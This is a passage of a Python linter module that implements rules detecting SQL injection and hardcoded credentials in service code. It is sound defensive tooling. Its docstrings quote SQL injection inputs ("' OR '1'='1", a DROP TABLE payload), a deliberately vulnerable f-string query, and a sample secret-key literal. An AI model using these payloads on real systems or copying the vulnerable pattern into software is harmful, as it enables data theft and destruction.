"""Security: injection, secrets, broken crypto and trust decisions in service code."""

from __future__ import annotations

import ast
import itertools
import re
import string
from collections.abc import Iterator
from typing import Any

from prodready.engine.analysis import (
    argument,
    constant_str,
    dotted,
    has_star_kwargs,
    in_service_code,
    is_false,
    is_framework_source,
    is_literal,
    is_script,
    is_true,
    keyword_value,
    log_call,
)
from prodready.engine.python import FunctionEnd, ModuleEnd, PythonContext
from prodready.engine.registry import python_rule
from prodready.engine.secrets import (
    CREDENTIAL_FORMAT_NAMES,
    CREDENTIAL_FORMATS,
    UrlCredentials,
    loopback_host,
    name_words,
    secret_name,
    url_credentials,
)
from prodready.engine.taint import (
    PATH_CONTAINMENT_CHECK,
    REQUEST_DATA_ATTRIBUTES,
    SAFE_REDIRECT_CHECK,
    SEGMENT_PARAMETERS,
    URL_HOST_CHECK,
    external_source,
    report_deferred,
    sink_flow,
)
from prodready.model import Category, Confidence, Severity

# -- shared: strings built from pieces ----------------------------------------------------------

Piece = str | ast.expr
_MAX_DEPTH = 5
_PERCENT_FIELD = re.compile(
    r"%(?:\((?P<key>[^)]*)\))?[#0\- +]*(?:\*|\d+)?(?:\.(?:\*|\d+))?[a-zA-Z%]"
)


def _is_str_template(expr: ast.AST, ctx: PythonContext, depth: int) -> bool:
    if isinstance(expr, ast.Constant):
        return isinstance(expr.value, str)
    if isinstance(expr, ast.JoinedStr):
        return True
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add | ast.Mod):
        return _is_str_template(expr.left, ctx, depth + 1) or (
            isinstance(expr.op, ast.Add) and _is_str_template(expr.right, ctx, depth + 1)
        )
    if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute):
        return expr.func.attr in {"format", "join"} and _is_str_template(
            expr.func.value, ctx, depth + 1
        )
    if isinstance(expr, ast.Name) and depth < _MAX_DEPTH:
        value = ctx.value_of(expr.id)
        return value is not None and _is_str_template(value, ctx, depth + 1)
    return False


def _pieces(
    expr: ast.expr, ctx: PythonContext, extra: dict[str, list[ast.expr]], depth: int = 0
) -> list[Piece]:
    """A built string as a flat sequence of literal text and the values interpolated into it
    (f-strings, ``%``, ``.format()``, ``+``, ``sep.join([...])``), following local names to the
    strings they were built from. Values that are not built here stay whole."""
    if depth > _MAX_DEPTH:
        return [expr]
    if isinstance(expr, ast.Constant):
        return [expr.value] if isinstance(expr.value, str) else [expr]
    if isinstance(expr, ast.JoinedStr):
        out: list[Piece] = []
        for part in expr.values:
            if isinstance(part, ast.Constant) and isinstance(part.value, str):
                out.append(part.value)
            elif isinstance(part, ast.FormattedValue):
                out.extend(_pieces(part.value, ctx, extra, depth + 1))
        return out
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add):
        if _is_str_template(expr, ctx, depth):
            return [
                *_pieces(expr.left, ctx, extra, depth + 1),
                *_pieces(expr.right, ctx, extra, depth + 1),
            ]
        return [expr]
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Mod):
        return _percent_pieces(expr, ctx, extra, depth)
    if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute):
        if expr.func.attr == "format":
            return _format_pieces(expr, ctx, extra, depth)
        if expr.func.attr == "join" and len(expr.args) == 1:
            separator = _template_text(expr.func.value, ctx)
            items = expr.args[0]
            if separator is not None and isinstance(items, ast.List | ast.Tuple):
                out = []
                for index, item in enumerate(items.elts):
                    if index:
                        out.append(separator)
                    out.extend(_pieces(item, ctx, extra, depth + 1))
                return out
        return [expr]
    if isinstance(expr, ast.Name):
        value = ctx.value_of(expr.id)
        appended = extra.get(expr.id, [])
        built = value is not None and value is not expr and _is_str_template(value, ctx, depth)
        if not built and not appended:
            return [expr]
        head: list[Piece] = [expr]
        if built and value is not None:
            head = _pieces(value, ctx, extra, depth + 1)
        for more in appended:  # ``sql += f" AND name = '{name}'"``
            head.extend(_pieces(more, ctx, {}, depth + 1))
        return head
    return [expr]


def _template_text(expr: ast.AST, ctx: PythonContext) -> str | None:
    text = constant_str(expr)
    if text is None and isinstance(expr, ast.Name):
        text = constant_str(ctx.value_of(expr.id))
    return text


def _percent_pieces(
    expr: ast.BinOp, ctx: PythonContext, extra: dict[str, list[ast.expr]], depth: int
) -> list[Piece]:
    template = _template_text(expr.left, ctx)
    right: ast.AST | None = expr.right
    if isinstance(right, ast.Name):
        bound = ctx.value_of(right.id)
        if isinstance(bound, ast.Tuple | ast.Dict):
            right = bound
    if template is None:
        if not _is_str_template(expr.left, ctx, depth):
            return [expr]
        values = right.elts if isinstance(right, ast.Tuple) else [expr.right]
        head = _pieces(expr.left, ctx, extra, depth + 1)
        return [*head, *(v for value in values for v in _pieces(value, ctx, extra, depth + 1))]
    positional = list(right.elts) if isinstance(right, ast.Tuple) else [expr.right]
    named: dict[str, ast.expr] = {}
    if isinstance(right, ast.Dict):
        for key, value in zip(right.keys, right.values, strict=True):
            name = constant_str(key)
            if name is not None:
                named[name] = value
    out: list[Piece] = []
    position = 0
    last = 0
    for match in _PERCENT_FIELD.finditer(template):
        out.append(template[last : match.start()])
        last = match.end()
        if match.group(0) == "%%":
            out.append("%")
            continue
        field_name = match.group("key")
        field: ast.expr | None
        if field_name is not None:
            field = named.get(field_name) if isinstance(right, ast.Dict) else expr.right
        else:
            field = positional[position] if position < len(positional) else None
            position += 1
        if field is not None:
            out.extend(_pieces(field, ctx, extra, depth + 1))
    out.append(template[last:])
    return out


def _format_pieces(
    expr: ast.Call, ctx: PythonContext, extra: dict[str, list[ast.expr]], depth: int
) -> list[Piece]:
    assert isinstance(expr.func, ast.Attribute)
    template = _template_text(expr.func.value, ctx)
    if template is None:
        return [expr]
    keywords = {k.arg: k.value for k in expr.keywords if k.arg is not None}
    out: list[Piece] = []
    auto = 0
    try:
        parsed = list(string.Formatter().parse(template))
    except ValueError:
        return [expr]
    for literal, field, _spec, _conversion in parsed:
        out.append(literal)
        if field is None:
            continue
        head = re.split(r"[.\[]", field, maxsplit=1)[0]
        value: ast.expr | None = None
        if head == "":
            value = expr.args[auto] if auto < len(expr.args) else None
            auto += 1
        elif head.isdigit():
            index = int(head)
            value = expr.args[index] if index < len(expr.args) else None
        else:
            value = keywords.get(head)
        if value is not None and not isinstance(value, ast.Starred):
            out.extend(_pieces(value, ctx, extra, depth + 1))
        elif value is None:
            out.append(expr)  # ``**kwargs`` or an index we cannot see: unknown
    return out


def _is_param(name: str, ctx: PythonContext) -> bool:
    scope = ctx.function
    if scope is None or name in scope.values:
        return False
    return any(arg.arg == name for arg in scope.params) and name not in {"self", "cls"}


def _annotation_is_number(name: str, ctx: PythonContext) -> bool:
    """A parameter declared (or, in a Flask route, converted) as a number or UUID."""
    scope = ctx.function
    if scope is None:
        return False
    path = scope.route.path if scope.route is not None else None
    if path and any(f"<{kind}:{name}>" in path for kind in ("int", "float", "uuid")):
        return True
    for arg in scope.params:
        if arg.arg == name and arg.annotation is not None:
            words = {
                n.id if isinstance(n, ast.Name) else n.attr
                for n in ast.walk(arg.annotation)
                if isinstance(n, ast.Name | ast.Attribute)
            }
            return bool(words & {"int", "float", "bool", "UUID", "Decimal"}) and not (
                words & {"str", "Any", "bytes"}
            )
    return False


def _call_name(call: ast.Call, ctx: PythonContext) -> str:
    """The last part of a callee's name, through local aliases (``qn = ops.quote_name``)."""
    func: ast.expr = call.func
    if isinstance(func, ast.Name):
        bound = ctx.value_of(func.id)
        if isinstance(bound, ast.Attribute | ast.Name):
            func = bound
    if isinstance(func, ast.Attribute):
        return func.attr
    return func.id if isinstance(func, ast.Name) else ""


def _safe_value(
    expr: ast.AST, ctx: PythonContext, sanitizers: frozenset[str], depth: int = 0
) -> bool:
    """A value that cannot change the structure of the text it is put into: constants,
    UPPER_CASE names, schema identifiers, numbers, quoted identifiers, placeholder lists."""
    if depth > _MAX_DEPTH:
        return False
    if isinstance(expr, ast.Constant):
        return True
    if isinstance(expr, ast.Name):
        value = ctx.value_of(expr.id)
        if value is not None and value is not expr:
            return _safe_value(value, ctx, sanitizers, depth + 1)
        if _is_param(expr.id, ctx):
            return _annotation_is_number(expr.id, ctx)
        return expr.id.isupper() and len(expr.id) > 1
    if isinstance(expr, ast.Attribute):
        attr = expr.attr
        return (
            (attr.isupper() and len(attr) > 1)
            or attr in {"db_table", "table_name", "__tablename__", "tablename", "pk", "id"}
            or attr.endswith(("_table", "_id"))
        )
    if isinstance(expr, ast.Tuple | ast.List | ast.Set):
        return all(_safe_value(e, ctx, sanitizers, depth + 1) for e in expr.elts)
    if isinstance(expr, ast.IfExp):
        return _safe_value(expr.body, ctx, sanitizers, depth + 1) and _safe_value(
            expr.orelse, ctx, sanitizers, depth + 1
        )
    if isinstance(expr, ast.BinOp):
        if isinstance(expr.op, ast.Sub | ast.Div | ast.FloorDiv | ast.Pow):
            return True  # arithmetic: the value is a number
        if isinstance(expr.op, ast.Mult):  # ``["%s"] * len(ids)``, ``"?, " * n``
            return _safe_value(expr.left, ctx, sanitizers, depth + 1) or _safe_value(
                expr.right, ctx, sanitizers, depth + 1
            )
        return _safe_value(expr.left, ctx, sanitizers, depth + 1) and _safe_value(
            expr.right, ctx, sanitizers, depth + 1
        )
    if isinstance(expr, ast.UnaryOp):
        return _safe_value(expr.operand, ctx, sanitizers, depth + 1)
    if isinstance(expr, ast.GeneratorExp | ast.ListComp | ast.SetComp):
        return _safe_value(expr.elt, ctx, sanitizers, depth + 1)
    if isinstance(expr, ast.Subscript):
        # A lookup in a whitelist: ``SORT_COLUMNS[sort]``, ``self._isolation_lookup[level]``.
        container = expr.value
        if isinstance(container, ast.Name):
            if container.id.isupper():
                return True
            bound = ctx.value_of(container.id)
            return bound is not None and is_literal(bound)
        if isinstance(container, ast.Attribute):
            if container.attr in REQUEST_DATA_ATTRIBUTES:
                return False  # ``request.POST["x"]`` is not a constant table
            return container.attr.isupper() or any(
                hint in container.attr.lower() for hint in _LOOKUP_HINTS
            )
        return False
    if isinstance(expr, ast.Call):
        name = _call_name(expr, ctx)
        lowered = name.lower()
        if "quote" in lowered or name in sanitizers or name in _NUMERIC_CALLS:
            return True
        if lowered.endswith("name") or any(h in lowered for h in _IDENTIFIER_CALL_HINTS):
            # ``_get_sequence_name(model._meta.db_table)``: a name derived from schema names.
            arguments = [*expr.args, *(k.value for k in expr.keywords)]
            if arguments and all(_safe_value(a, ctx, sanitizers, depth + 1) for a in arguments):
                return True
        if name == "str" and expr.args:
            return _safe_value(expr.args[0], ctx, sanitizers, depth + 1)
        if name == "join" and isinstance(expr.func, ast.Attribute) and expr.args:
            return _safe_value(expr.args[0], ctx, sanitizers, depth + 1)
        if name == "get" and isinstance(expr.func, ast.Attribute):  # ``ALLOWED.get(x, "id")``
            owner = expr.func.value
            return isinstance(owner, ast.Name) and (
                owner.id.isupper() or is_literal(ctx.value_of(owner.id))
            )
        if name in {"upper", "lower", "strip"} and isinstance(expr.func, ast.Attribute):
            return _safe_value(expr.func.value, ctx, sanitizers, depth + 1)
        return False
    return False


_NUMERIC_CALLS = frozenset({"len", "int", "float", "bool", "abs", "round", "min", "max", "sum"})
_LOOKUP_HINTS = ("lookup", "map", "names", "columns", "choices", "levels", "types", "table")
_IDENTIFIER_CALL_HINTS = ("sequence", "table", "column", "identifier", "index", "constraint")


def _slots(pieces: list[Piece]) -> Iterator[tuple[str, ast.expr, str]]:
    """Each interpolated value with the literal text before it and the text right after it."""
    for index, piece in enumerate(pieces):
        if isinstance(piece, str):
            continue
        before = "".join(p if isinstance(p, str) else " ? " for p in pieces[:index])
        after = ""
        for following in pieces[index + 1 :]:
            if not isinstance(following, str):
                break
            after += following
        yield before, piece, after


# -- SEC001 ------------------------------------------------------------------------------------

_SQL_SHAPE = re.compile(
    r"(?is)\bselect\b.+\bfrom\b|\binsert\s+into\b|\bupdate\b.+\bset\b|\bdelete\s+from\b|\bwhere\b"
    r"|\b(?:create|drop|alter)\s+(?:table|index|view|database|schema)\b|\btruncate\b"
    r"|\border\s+by\b|\bgroup\s+by\b|\bvalues\s*\(|\bpragma\b|\bjoin\b.+\bon\b"
)
_SQL_SANITIZERS = frozenset(
    {"qn", "qn2", "Identifier", "escape_identifier", "identifier", "escape_name", "placeholders"}
)
_SQL_METHODS = (
    *("*.execute", "*.executemany", "*.executescript", "*.exec_driver_sql", "*.raw"),
    # asyncpg, databases, aiosqlite, clickhouse/bigquery clients
    *("*.fetch", "*.fetchrow", "*.fetchval", "*.fetch_all", "*.fetch_one", "*.fetch_val"),
    "*.query",
)
_SQL_FUNCTIONS = (
    "django.db.models.RawSQL",
    "django.db.models.expressions.RawSQL",
    "sqlalchemy.text",
    "sqlalchemy.sql.text",
    "sqlalchemy.sql.expression.text",
    "sqlmodel.text",
    "pandas.read_sql",
    "pandas.read_sql_query",
)


def _sql_pieces(node: ast.Call, ctx: PythonContext) -> list[ast.expr]:
    func = node.func
    method = func.attr if isinstance(func, ast.Attribute) else None
    if method == "extra":
        found: list[ast.expr] = []
        where = keyword_value(node, "where")
        if isinstance(where, ast.List | ast.Tuple):
            found.extend(where.elts)
        select = keyword_value(node, "select")
        if isinstance(select, ast.Dict):
            found.extend(select.values)
        return found
    sql = argument(node, 0, "sql")
    for name in ("query", "statement", "raw_query", "sql_query", "text"):
        sql = sql or keyword_value(node, name)
    return [sql] if sql is not None else []


# Builders whose result is a statement object, not text: passing one to execute() is safe.
_SQL_BUILDER_PREFIXES = ("sqlalchemy.", "sqlmodel.", "pypika.", "psycopg.sql.", "psycopg2.sql.")
_SQL_BUILDER_METHODS = frozenset(
    {"where", "filter", "filter_by", "values", "order_by", "limit", "offset", "join", "having"}
    | {"group_by", "returning", "select_from", "options", "on_conflict_do_update", "format"}
    | {"on_conflict_do_nothing", "execution_options", "params", "bindparams", "compile"}
)
# Where a whole statement coming from elsewhere can only be SQL text.
_WHOLE_STATEMENT_METHODS = frozenset(
    {"execute", "executemany", "executescript", "exec_driver_sql", "raw", "extra"}
)


@python_rule(
    code="SEC001",
    name="sql-built-from-strings",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="SQL statement built by string formatting from request data (SQL injection)",
    calls=(*_SQL_METHODS, "*.extra", *_SQL_FUNCTIONS),
    nodes=(ast.AugAssign, ModuleEnd),
    cwe=89,
    fix='Pass values as parameters: cursor.execute("... WHERE id = %s", (value,)).',
)
def sql_built_from_strings(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags SQL statements built with f-strings, `%`, `.format()`, `+` or `+=` from data the
    client controls -- request bodies, query strings, headers, handler parameters -- and run
    with `cursor.execute`/`executemany`/`executescript`, SQLAlchemy `text()`/`exec_driver_sql`,
    Django `Model.objects.raw()`/`.extra(where=...)`/`RawSQL`, asyncpg `fetch*` or
    `pandas.read_sql`. The data is followed through local variables and through helper
    functions of the module: a helper that builds the string, and a helper that runs a query
    with its parameter when a handler passes request data to it. Parameterised queries,
    constant SQL, numbers (`int(...)`, `item_id: int`), values mapped through a whitelist
    (`SORT_COLUMNS[sort]`) and quoted identifiers (`sql.Identifier`) are not reported, nor is
    SQL built from configuration, `sys.argv` or environment variables.

    ## Why it breaks production
    A value containing a quote ends the literal and turns the rest of the value into SQL:
    `' OR '1'='1` reads every row, `'; DROP TABLE orders; --` destroys data. Even without an
    attacker, a customer named O'Brien gets a 500 on every request. Injection is routinely
    found by automated scanners within days of a service going public.

    ## Example
    ```python
    @app.get("/users")
    def find_user(email: str):
        with conn.cursor() as cur:
            cur.execute(f"SELECT id, name FROM users WHERE email = '{email}'")
            return cur.fetchone()
    ```

    ## Use instead
    ```python
    @app.get("/users")
    def find_user(email: str):
        with conn.cursor() as cur:
            cur.execute("SELECT id, name FROM users WHERE email = %s", (email,))
            return cur.fetchone()
    ```
    Identifiers (sort columns, table names) cannot be parameters: map user input through a
    whitelist dict (`SORT_COLUMNS[sort]`) or quote them with `psycopg.sql.Identifier`.
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test:
        return
    appended: dict[str, list[ast.expr]] = ctx.rule_state(dict)
    if isinstance(node, ast.AugAssign):
        target = node.target
        if (
            isinstance(node.op, ast.Add)
            and isinstance(target, ast.Name)
            and isinstance(node.value, ast.JoinedStr | ast.BinOp | ast.Call)
        ):
            appended.setdefault(target.id, []).append(node.value)
        return
    if not isinstance(node, ast.Call) or (has_star_kwargs(node) and not node.args):
        return
    callee = ctx.call_name or (dotted(node.func) or "execute")
    reported: list[bool] = []  # one finding per call, whichever of its statements is first
    for sql in _sql_pieces(node, ctx):
        _check_sql(node, sql, callee, appended, reported, ctx)


def _check_sql(
    call: ast.Call,
    sql: ast.expr,
    callee: str,
    appended: dict[str, list[ast.expr]],
    reported: list[bool],
    ctx: PythonContext,
) -> None:
    short = callee.rsplit(".", 1)[-1]
    pieces = _pieces(sql, ctx, appended)
    if len(pieces) == 1 and not isinstance(pieces[0], str):
        # The whole statement is one value: request data itself, or text a helper built.
        if not _whole_statement(pieces[0], call, callee, ctx):
            return

        def report_whole(source: str) -> None:
            if reported:
                return
            reported.append(True)
            ctx.report(
                call,
                f"{short}() runs SQL text that carries {source}: whoever controls it "
                "controls the query (SQL injection). Keep the statement constant and pass "
                'values as query parameters (execute("... WHERE x = %s", (value,)))',
            )

        sink_flow([pieces[0]], ctx, report_whole, sanitizers=_SQL_TAINT_SANITIZERS, web_only=True)
        return
    if len(pieces) < 2:
        return
    text = " ".join(p if isinstance(p, str) else " ? " for p in pieces)
    fragment = callee.endswith(".RawSQL") or (
        isinstance(call.func, ast.Attribute) and call.func.attr == "extra"
    )  # SQL expressions, not statements
    if not fragment and not _SQL_SHAPE.search(text):
        return
    if not any(isinstance(p, str) and p.strip() for p in pieces):
        return
    values = [
        value
        for _before, value, _after in _slots(pieces)
        if not _safe_value(value, ctx, _SQL_SANITIZERS)
    ]

    def report(source: str) -> None:
        if reported:
            return
        reported.append(True)
        ctx.report(
            call,
            f"SQL passed to {short}() is built by string formatting from {source}: a quote "
            "in the value rewrites the query (SQL injection). Pass values as query "
            'parameters (execute("... WHERE x = %s", (value,))) and map identifiers through '
            "a whitelist",
        )

    sink_flow(values, ctx, report, sanitizers=_SQL_TAINT_SANITIZERS, web_only=True)


_SQL_TAINT_SANITIZERS = frozenset(
    _SQL_SANITIZERS
    | {"quote_name", "quote_ident", "quote_identifier", "escape_string", "literal"}
    | {"psycopg.sql.Identifier", "psycopg2.sql.Identifier", "psycopg2.extensions.quote_ident"}
    | {"bindparams", "params"}
)


def _whole_statement(value: ast.expr, call: ast.Call, callee: str, ctx: PythonContext) -> bool:
    """A statement passed whole is SQL text (not a query object) when the sink only takes
    text, or when it is request data or a string built by a helper of this module."""
    method = call.func.attr if isinstance(call.func, ast.Attribute) else None
    if callee not in _SQL_FUNCTIONS and method not in _WHOLE_STATEMENT_METHODS:
        return False
    if method == "raw" and "objects" not in (dotted(call.func) or ""):
        return False  # only Django's Manager.raw()
    expr: ast.expr | None = value
    last: ast.expr = value
    for _ in range(_MAX_DEPTH):
        if not isinstance(expr, ast.Name):
            break
        last = expr
        expr = ctx.value_of(expr.id)
    if expr is None:
        # a parameter: text handed in by the caller (``def run(sql): cur.execute(sql)``)
        scope = ctx.function
        return (
            isinstance(last, ast.Name)
            and scope is not None
            and any(arg.arg == last.id for arg in scope.params)
        )
    if isinstance(expr, ast.Name):
        return False
    if isinstance(expr, ast.Call):
        name = ctx.qualname(expr.func) or ""
        if name.startswith(_SQL_BUILDER_PREFIXES):
            return False
        if isinstance(expr.func, ast.Attribute) and expr.func.attr in _SQL_BUILDER_METHODS:
            return False
        helper = _module_helper(expr, ctx)
        if helper is not None:
            return _returns_text(helper)
    return True


def _module_helper(
    call: ast.Call, ctx: PythonContext
) -> ast.FunctionDef | ast.AsyncFunctionDef | None:
    if not isinstance(call.func, ast.Name) or ctx.resolve_name(call.func.id) != call.func.id:
        return None
    for statement in ctx.tree.body:
        if (
            isinstance(statement, ast.FunctionDef | ast.AsyncFunctionDef)
            and statement.name == call.func.id
        ):
            return statement
    return None


def _returns_text(function: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
    """The function returns a string it builds (f-string, ``%``, ``+``, ``.format``)."""
    built: set[str] = set()
    returns: list[ast.expr] = []
    for node in ast.walk(function):
        if isinstance(node, ast.Assign | ast.AugAssign) and _text_template(node.value, built):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            built.update(t.id for t in targets if isinstance(t, ast.Name))
        elif isinstance(node, ast.Return) and node.value is not None:
            returns.append(node.value)
    return any(_text_template(value, built) for value in returns)


def _text_template(expr: ast.expr, built: set[str]) -> bool:
    if isinstance(expr, ast.JoinedStr):
        return True
    if isinstance(expr, ast.Name):
        return expr.id in built
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add | ast.Mod):
        sides = (expr.left, expr.right)
        return any(
            (isinstance(side, ast.Constant) and isinstance(side.value, str))
            or _text_template(side, built)
            for side in sides
        )
    if isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute):
        owner = expr.func.value
        return expr.func.attr in {"format", "join"} and (
            (isinstance(owner, ast.Constant) and isinstance(owner.value, str))
            or _text_template(owner, built)
        )
    return False


# -- SEC002 ------------------------------------------------------------------------------------

# ``token`` alone names many things (lexer tokens, identity tokens, URL tokens): without a
# credential word next to it, only a random-looking value counts.
_CREDENTIAL_TOKEN_WORDS = frozenset(
    {"auth", "access", "refresh", "bearer", "bot", "api", "github", "gitlab", "slack", "oauth"}
    | {"session", "secret", "service", "admin", "webhook", "jwt", "id", "personal", "app"}
    | {"telegram", "discord", "hf", "npm", "pypi", "vault", "consul", "cf", "do", "sentry"}
)
_NOT_SECRET_VALUES = frozenset(
    {"bearer", "basic", "token", "none", "null", "true", "false", "jwt", "hs256", "rs256"}
    | {"sha256", "md5", "plain", "text", "hidden", "required", "optional", "string", "str"}
    | {"auto", "default", "disabled", "enabled", "redacted", "masked", "secret", "password"}
    | {"passwd", "api_key", "apikey", "access_token", "refresh_token", "id_token", "client_secret"}
    | {"secret_key", "private_key", "undefined", "unknown", "empty", "n/a", "na", "oauth2"}
    | {"test", "tests", "testing", "invalid", "missing", "incorrect", "mismatch", "weak"}
    | {"strong", "expired", "revoked", "valid", "none", "unset", "off", "on", "yes", "no"}
)
_MASK_WORDS = frozenset(
    {"sanitized", "redacted", "masked", "filtered", "hidden", "removed", "omitted", "elided"}
    | {"secret", "hidden_value", "not_set", "notset", "unset", "none"}
)
_PLACEHOLDER_HINTS = (
    "change",
    "replace",
    "your",
    "example",
    "placeholder",
    "dummy",
    "fake",
    "xxx",
    "todo",
    "fixme",
    "insert",
    "here",
    "sample",
    "<",
    "...",
    "test",
    "demo",
)
_DEV_SETTINGS = frozenset(
    {"dev", "development", "local", "test", "tests", "testing", "ci", "example", "sample"}
)


def _secret_value(value: str, name: str) -> Confidence | None:
    """How sure it is that a literal assigned to a secret-like name is a real credential
    (None: not a credential at all -- empty, a template, a sentence, a field name)."""
    text = value.strip()
    lowered = text.lower()
    for scheme in ("bearer ", "basic ", "token "):
        if lowered.startswith(scheme):
            text = text[len(scheme) :].strip()
            lowered = text.lower()
    if len(text) < 4 or any(ch.isspace() for ch in text):
        return None
    if "{" in text or "%(" in text or "%s" in text or "${" in text or "$(" in text:
        return None
    if "://" in text or text.startswith(("/", "./", "~")) or "\\" in text:
        return None
    if re.fullmatch(r"[A-Z][A-Z0-9_]*", text) and "_" in text:
        return None  # the name of an environment variable
    if re.fullmatch(r"[a-z_][\w-]*(?:\.[\w-]+)+", text) and not re.search(r"\d{3}", text):
        return None  # a dotted path, a module or a file name
    if (
        lowered in _NOT_SECRET_VALUES
        or lowered == name.lower()
        or lowered.strip("_") in name.lower()
    ):
        return None
    if not any(c.isalnum() for c in text.replace("x", "").replace("X", "")):
        return None  # a mask: ``****``, ``:xxxx``
    if text.strip("<>[]()*_- ").lower() in _MASK_WORDS:
        return None  # ``<SANITIZED>``, ``[REDACTED]``
    if re.fullmatch(r"_*[a-z][a-z0-9]*(?:_[a-z0-9]+)+", text) and secret_name(text):
        return None  # the name of a field or key, not its value
    if any(hint in lowered for hint in _PLACEHOLDER_HINTS):
        return Confidence.LOW
    if re.fullmatch(r"[A-Z][a-z]+", text):
        return None  # a label (``Passwort``)
    if re.fullmatch(r"[a-z]+(?:-[a-z]+)+", text):
        return Confidence.MEDIUM  # words (``super-secret-key``): weak, but maybe a label
    if re.fullmatch(r"[a-z]+(?:_[a-z]+)+", text):
        return None  # an identifier or an error code (``too_short``)
    words = name_words(name)
    if words[-1] == "token" and not _CREDENTIAL_TOKEN_WORDS.intersection(words[:-1]):
        return Confidence.HIGH if _looks_random(text) else None
    return Confidence.HIGH


def _looks_random(text: str) -> bool:
    """Long and mixing character classes, like a generated key (not a word or an identifier)."""
    classes = sum(
        (
            any(c.islower() for c in text),
            any(c.isupper() for c in text),
            any(c.isdigit() for c in text),
        )
    )
    if len(text) >= 16 and classes >= 2:
        return True
    return len(text) >= 24 and "_" not in text and "-" not in text


def _target_name(target: ast.AST) -> str | None:
    if isinstance(target, ast.Name):
        return target.id
    if isinstance(target, ast.Attribute):
        return target.attr
    if isinstance(target, ast.Subscript):
        return constant_str(target.slice)
    return None


def _settings_class_field(ctx: PythonContext) -> bool:
    """A field of a pydantic ``BaseSettings`` class: its value is only the default of an
    environment variable."""
    return (
        ctx.function is None
        and bool(ctx.classes)
        and any(base.endswith("BaseSettings") for base in ctx.classes[-1].bases)
    )


# Keys whose values document an API with sample payloads, not configure anything.
_EXAMPLE_KEYS = frozenset({"example", "examples", "json_schema_extra", "schema_extra"})


def _dev_settings_file(path: str) -> bool:
    parts = path.lower().split("/")
    words = set(re.split(r"[_.\-]", parts[-1])) | set(parts[:-1])
    return bool(words & _DEV_SETTINGS)


@python_rule(
    code="SEC002",
    name="hardcoded-secret",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="Credential written in the source: password, API key, token or private key literal",
    nodes=(
        ast.Module,
        ast.Assign,
        ast.AnnAssign,
        ast.keyword,
        ast.Dict,
        ast.Compare,
        ast.Constant,
        ModuleEnd,
    ),
    cwe=798,
    fix='Read it from the environment or a secret manager: os.environ["DB_PASSWORD"].',
)
def hardcoded_secret(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags string literals assigned to credential names (`password`, `secret`, `api_key`,
    `token`, `client_secret`, `SECRET_KEY`, ...) as variables, attributes, keyword arguments,
    dictionary keys or in comparisons (`if password == "admin123"`), and any string that has the
    format of a real credential: AWS access key ids, GitHub/Slack tokens, live Stripe keys,
    Google API keys, PEM private keys -- and connection URLs that embed a password
    (`"postgresql://app:S3cret@db.internal/orders"`, `"redis://:pw@cache:6379"`) wherever
    the string is used. Names of fields (`password_field`, `token_url`,
    `token_type`), empty values, templates, masks and environment-variable names are not
    secrets; placeholders (`"changeme"`, `"<your-key>"`) are reported with low confidence.
    Test files, documentation examples and API example payloads are skipped, and so are
    environment fallbacks (`os.getenv("X_SECRET", "...")`) and pydantic `BaseSettings`
    defaults, which CFG002 (secret-with-insecure-default) reports. In URLs, placeholder and
    template passwords (`user:pass@`, `${DB_PASSWORD}`, `{password}`, `app:app`) are not
    secrets, and a loopback database (`@localhost`) is left alone in scripts and dev settings
    (and reported with medium confidence elsewhere).

    ## Why it breaks production
    A secret in the source is in every clone, CI log, container image layer and backup of the
    repository, and cannot be rotated without a deploy. Leaked keys are harvested from public
    repositories within minutes; a shared hardcoded password or signing key means every
    environment -- and everyone who ever had read access -- can log in or forge sessions.

    ## Example
    ```python
    STRIPE_API_KEY = "sk_live_EXAMPLE51HqLyjWDarjtT1zdp7dcXYZ"
    engine = create_engine("postgresql://app@db/orders", connect_args={"password": "s3cr3t!"})
    ```

    ## Use instead
    ```python
    STRIPE_API_KEY = os.environ["STRIPE_API_KEY"]
    engine = create_engine(
        "postgresql://app@db/orders", connect_args={"password": os.environ["DB_PASSWORD"]}
    )
    ```
    Rotate any credential that was committed: removing it from the code does not remove it from
    the history.
    """
    if ctx.facts.is_test:
        return
    pairs: list[tuple[str | None, ast.expr | None, ast.AST]] = []
    # Cheapest tests first: almost every node here has no string literal on its value side.
    if isinstance(node, ast.Constant):
        text = node.value
        if text.__class__ is str and "://" in text and "@" in text and len(text) < 2000:
            _collect_url_credentials(node, text, ctx)
        return
    if isinstance(node, ast.keyword):
        if node.arg in _EXAMPLE_KEYS:
            ctx.rule_state(list).append(node.value)
        if node.value.__class__ is not ast.Constant or node.arg is None:
            return
        pairs.append((node.arg, node.value, node))
    elif isinstance(node, ast.Assign):
        if node.value.__class__ is not ast.Constant or _settings_class_field(ctx):
            return
        pairs.extend((_target_name(t), node.value, node) for t in node.targets)
    elif isinstance(node, ast.Dict):
        for key, value in zip(node.keys, node.values, strict=True):
            if value.__class__ is ast.Constant and key is not None:
                pairs.append((constant_str(key), value, key))
            elif constant_str(key) in _EXAMPLE_KEYS:
                ctx.rule_state(list).append(value)
        if pairs and any(_contains(span, node) for span in ctx.rule_state(list)):
            return  # an example payload for API docs (``json_schema_extra={"examples": ...}``)
    elif isinstance(node, ast.AnnAssign):
        if _settings_class_field(ctx):
            return  # an environment default: CFG002 reports it
        pairs.append((_target_name(node.target), node.value, node))
    elif isinstance(node, ast.Module):
        # Dispatched twice: before the walk (the module node) and after it (ModuleEnd).
        if "SEC002:lines" not in ctx.module_state:
            _scan_credential_formats(ctx)
        else:
            _report_url_credentials(ctx)
        return
    elif (
        isinstance(node, ast.Compare)
        and len(node.ops) == 1
        and isinstance(node.ops[0], ast.Eq | ast.NotEq)
    ):
        left: ast.expr = node.left
        right: ast.expr = node.comparators[0]
        if isinstance(left, ast.Constant):
            left, right = right, left
        pairs.append((_target_name(left), right, node))
    for name, assigned, where in pairs:
        literal = constant_str(assigned)
